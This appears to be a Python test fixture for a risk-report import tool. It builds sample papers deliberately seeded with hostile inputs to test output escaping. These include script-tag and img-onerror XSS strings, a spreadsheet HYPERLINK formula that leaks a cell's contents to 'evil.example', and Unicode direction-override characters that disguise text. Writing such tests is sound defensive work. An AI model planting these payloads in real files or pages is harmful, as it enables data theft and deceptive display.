"""Papers whose words mean harm: to a browser, to a spreadsheet, to the order of letters."""

from __future__ import annotations

import hashlib
from dataclasses import replace
from pathlib import Path

from risktrail.cli.main import run
from risktrail.samples.make_samples import papers, pdf
from risktrail.schema.report import Action, Report, Risk, Source, Status
from risktrail.store import Paper, open_writer

SCRIPT = "<script>alert(1)</script>"
IMAGE = '"><img src=x onerror=alert(2)>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
TURNED = "DCC to \u202epay\u202c \u2066nobody\u2069 \x07now"
NAME = 'OPSG "><b>\u202e.pdf'


def hostile_store(folder: Path) -> Path:
    """Two papers imported as PDF files, and a third as a reader might hand it over."""
    store = folder / "hostile.duckdb"
    for period in ("2020-08", "2020-09"):
        (folder / f"{period}.pdf").write_bytes(_paper(period))
    assert run(["import", str(folder), "--db", str(store), "--quiet"]) == 0
    with open_writer(store) as writer:
        content = b"no PDF at all"
        digest = hashlib.sha256(content).hexdigest()
        writer.add(Paper(NAME, f"/in/{NAME}", content, digest, 1.0, len(content)), _turned(), "1")
    return store


def _paper(period: str) -> bytes:
    paper = papers()[period]
    risk = next(each for each in paper.risks if each.risk_id.endswith("004"))
    first, second, *others = risk.actions
    actions = [
        replace(first, text=f"{FORMULA} DCC to do {IMAGE} in {period}", status="ongoing", status_text="Ongoing"),
        replace(second, note=f"{SCRIPT} {period}", note_style="brackets", status="ongoing", status_text="Ongoing"),
        *others,
    ]
    changed = replace(risk, description=f"{SCRIPT} There is a risk of {IMAGE} in {period}", actions=actions)
    return pdf(replace(paper, risks=[changed, *(each for each in paper.risks if each is not risk)]))


def _turned() -> Report:
    place = (Source(page=1, bbox=(10.0, 10.0, 200.0, 30.0)),)
    action = Action(text=TURNED, status=Status.ONGOING, status_text=SCRIPT, owners=(IMAGE, FORMULA), source=place)
    impact = (f"{FORMULA} {SCRIPT}",)
    risk = Risk(
        risk_id="OPSG-004", score=15, band=f"High {IMAGE}", description=TURNED, impact=impact, actions=(action,),
        source=place,
    )  # fmt: skip
    odd = Risk(risk_id=f"{IMAGE}&risk=1", score=1, band="Low", description="An odd number", source=place)
    return Report(committee="OPSG", period="2020-10", paper_reference=SCRIPT, risks=(risk, odd), page_count=1)
